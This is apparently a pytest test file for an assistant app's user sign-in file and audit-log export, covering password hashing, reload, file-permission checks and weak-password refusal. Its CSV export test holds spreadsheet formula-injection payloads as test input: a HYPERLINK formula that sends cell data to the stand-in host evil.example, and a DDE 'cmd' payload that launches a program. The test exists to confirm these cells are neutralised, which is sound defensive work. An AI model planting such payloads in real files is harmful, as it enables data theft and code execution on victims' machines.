"""Sign-in users and the audit export, tested on their own (no index, no model)."""

import csv
import io
import json
import os
import threading
import time

import pytest

from assistant.errors import ConfigError
from assistant.present import auth
from assistant.present.audit import AuditLog
from assistant.present.auth import add_user, checker, hash_password, password_problem, read_users, verify_password
from assistant.records import Answer

FAST = 1_000  # PBKDF2 iterations for test users: the real 600,000 take a second each


def write_users(path, **passwords):
    path.write_text("".join(f"{name}:{hash_password(pw, FAST)}\n" for name, pw in passwords.items()))


def touch_later(path):
    """Move the file's modification time on, as a later edit would, however coarse the file system's clock."""
    stamp = path.stat()
    os.utime(path, ns=(stamp.st_atime_ns, stamp.st_mtime_ns + 2_000_000_000))


def test_a_reset_password_or_a_removed_user_counts_without_a_restart(tmp_path):
    users = tmp_path / "users.txt"
    write_users(users, alice="old password", bob="bobs password")
    check = checker(users)
    assert check("alice", "old password") and check("bob", "bobs password")

    write_users(users, alice="new password", bob="bobs password")
    touch_later(users)
    assert check("alice", "new password") and not check("alice", "old password")

    write_users(users, alice="new password")
    touch_later(users)
    assert not check("bob", "bobs password") and check("alice", "new password")


def test_a_users_file_that_breaks_while_serving_lets_nobody_in_until_mended(tmp_path):
    users = tmp_path / "users.txt"
    write_users(users, alice="a password")
    check = checker(users)
    users.unlink()
    assert not check("alice", "a password")
    write_users(users, alice="a password")
    assert check("alice", "a password")


@pytest.mark.parametrize("stored, problem", [
    ("pbkdf2_sha256$600k$00ff$" + "00" * 32, "iterations"),
    ("pbkdf2_sha256$0$00ff$" + "00" * 32, "iterations"),
    ("pbkdf2_sha256$600000$zz$" + "00" * 32, "salt"),
    ("pbkdf2_sha256$600000$$" + "00" * 32, "salt"),
    ("pbkdf2_sha256$600000$00ff$00", "digest"),
    ("pbkdf2_sha256$600000$00ff", "pbkdf2_sha256$ITERATIONS$SALT$DIGEST"),
])
def test_a_damaged_hash_is_named_by_line_when_read_and_refused_when_signing_in(tmp_path, stored, problem):
    users = tmp_path / "users.txt"
    users.write_text(f"# app users\nalice:{hash_password('a password', FAST)}\nbob:{stored}\n")
    with pytest.raises(ConfigError) as raised:
        read_users(users)
    assert f"{users}:3" in raised.value.message and problem in raised.value.message
    assert "assistant user add bob" in raised.value.hint
    assert verify_password("anything", stored) is False


def test_user_add_mends_the_damaged_line_it_replaces_and_names_anyone_elses(tmp_path):
    users = tmp_path / "users.txt"
    users.write_text("bob:pbkdf2_sha256$600k$00ff$00\n")
    add_user(users, "bob", "a new passphrase")
    assert verify_password("a new passphrase", read_users(users)["bob"])
    users.write_text("bob:pbkdf2_sha256$600k$00ff$00\n")
    with pytest.raises(ConfigError, match=f"{users}:1"):
        add_user(users, "carol", "another passphrase")


def test_users_added_at_the_same_time_are_all_kept(tmp_path, monkeypatch):
    slow_write = auth.write_atomically

    def write_after_a_pause(*args, **kwargs):  # widens the gap between reading the file and writing it back
        time.sleep(0.2)
        return slow_write(*args, **kwargs)

    monkeypatch.setattr(auth, "write_atomically", write_after_a_pause)
    monkeypatch.setattr(auth, "hash_password", lambda password: hash_password(password, FAST))
    users = tmp_path / "users.txt"
    names = [f"member{n}" for n in range(4)]
    threads = [threading.Thread(target=add_user, args=(users, name, "a long passphrase")) for name in names]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(read_users(users)) == names


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_quoted(tmp_path):
    log = AuditLog(tmp_path / "audit.sqlite")
    questions = ['=HYPERLINK("http://evil.example/?"&A1,"Click for sources")', "+1+1", "-2+3", "@SUM(A1)",
                 "\tindented", "\rreturned", "How many children left care?"]
    try:
        for question in questions:
            log.record_answer(Answer(question, "-1 was the change.", True, "not_stated", "extractive"), {}, "v1",
                              "app", user="=cmd|' /C calc'!A0")
        rows = list(csv.DictReader(io.StringIO(log.export("csv"))))
    finally:
        log.close()
    assert [r["question"] for r in rows] == ["'" + q for q in questions[:-1]] + [questions[-1]]
    assert all(r["answer"] == "'-1 was the change." and r["user"] == "'=cmd|' /C calc'!A0" for r in rows)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())


def _log_of(tmp_path, count):
    log = AuditLog(tmp_path / "audit.sqlite")
    ids = [log.record_answer(Answer(f"Question {n}?", "The minutes do not say.", True, "not_stated", "extractive"),
                             {}, "v1", "cli") for n in range(count)]
    log.close()
    return ids


def test_show_refuses_an_id_prefix_that_several_answers_share_and_names_them(tmp_path, capsys):
    from assistant.present import cli

    ids = _log_of(tmp_path, 17)  # 17 ids among 16 hex digits: two at least start alike
    first = next(i[0] for i in ids if sum(j.startswith(i[0]) for j in ids) > 1)
    sharing = [i for i in ids if i.startswith(first)]
    assert cli.main(["audit", "--index", str(tmp_path), "--show", first]) == 2
    error = capsys.readouterr().err
    assert f"answers have an id that starts with {first}:" in error and "Give more characters" in error
    # Five of them at most (the latest asked; ids recorded within one clock tick come in any order), none other.
    assert sum(i in error for i in sharing) == min(len(sharing), 5)
    assert not any(i in error for i in ids if i not in sharing)
    unique = next(i for i in ids if sum(j.startswith(i[:8]) for j in ids) == 1)
    assert cli.main(["audit", "--index", str(tmp_path), "--show", unique[:8].upper()]) == 0
    assert json.loads(capsys.readouterr().out)["answer_id"] == unique


@pytest.mark.parametrize("fmt", ["table", "csv", "jsonl"])
def test_limit_keeps_the_most_recent_answers_in_every_format(tmp_path, capsys, fmt):
    from assistant.present import cli

    _log_of(tmp_path, 4)
    assert cli.main(["audit", "--index", str(tmp_path), "--format", fmt, "--limit", "2"]) == 0
    out = capsys.readouterr().out
    assert "Question 3?" in out and "Question 2?" in out and "Question 1?" not in out
    assert len(out.splitlines()) == (3 if fmt == "csv" else 2)  # a CSV has its header row


def test_a_users_file_every_account_may_write_lets_nobody_in(tmp_path):
    """Any local account could have added a line of its own and signed in: refused at start, and when read again."""
    users = tmp_path / "users.txt"
    write_users(users, alice="a password")
    users.chmod(0o600)
    check = checker(users)
    assert check("alice", "a password")
    users.chmod(0o666)
    touch_later(users)  # an edit by another account
    assert not check("alice", "a password")
    with pytest.raises(ConfigError, match=r"may be written by every account on this machine \(mode 666\)") as raised:
        read_users(users)
    assert f"chmod 600 {users}" in raised.value.hint
    users.chmod(0o600)  # the fix the message gives, and nothing else: a running app sees it
    assert check("alice", "a password")


def test_a_line_typed_by_hand_says_which_line_to_mend_and_user_remove_takes_a_user_out(tmp_path):
    from assistant.present.auth import remove_user

    users = tmp_path / "users.txt"
    write_users(users, alice="a password", bob="bobs password")
    with users.open("a") as file:
        file.write("carol plain-password\n")
    with pytest.raises(ConfigError) as raised:
        read_users(users)
    assert f"{users}:3 is not a `name:hash` line" in raised.value.message
    assert "Delete or correct line 3" in raised.value.hint
    users.write_text(users.read_text().replace("carol plain-password\n", "dave:pbkdf2_sha256$600k$00ff$00\n"))
    remove_user(users, "dave")  # a damaged line of the user taken out is no obstacle
    remove_user(users, "bob")
    assert sorted(read_users(users)) == ["alice"] and users.stat().st_mode & 0o077 == 0
    with pytest.raises(ConfigError, match="has no user 'bob'") as raised:
        remove_user(users, "bob")
    assert "alice" in raised.value.hint


def test_a_users_folder_or_an_empty_users_file_is_refused_at_start_with_what_to_do(tmp_path):
    with pytest.raises(ConfigError, match="which is a folder, not a users file") as raised:
        checker(tmp_path)
    assert str(tmp_path / "users.txt") in raised.value.hint
    empty = tmp_path / "users.txt"
    empty.write_text("# nobody yet\n")
    with pytest.raises(ConfigError, match="holds no users, so nobody could sign in") as raised:
        checker(empty)
    assert "assistant user add NAME" in raised.value.hint


@pytest.mark.parametrize("password, said", [
    ("password", "is too short"),  # the reviewer's three, each accepted by the old 8-character rule
    ("12345678", "is too short"),
    ("aaaaaaaa", "is too short"),
    ("123456789012", "is a run of keys"),
    ("qwertyuiopqw", "is a run of keys"),
    ("abababababab", "repeats too few characters"),
    ("cllr.smith-2026", "holds the user name"),
    ("MyPassword2026", "says that it is a password"),
])
def test_a_password_a_guesser_would_try_first_is_refused_with_what_makes_a_strong_one(tmp_path, password, said):
    with pytest.raises(ConfigError, match=f"The password {said}") as refused:
        add_user(tmp_path / "users.txt", "cllr.smith", password)
    assert "three random words" in refused.value.hint
    assert not (tmp_path / "users.txt").exists()


def test_a_long_passphrase_is_taken():
    assert password_problem("cllr.smith", "lamp orbit ferry") == ""
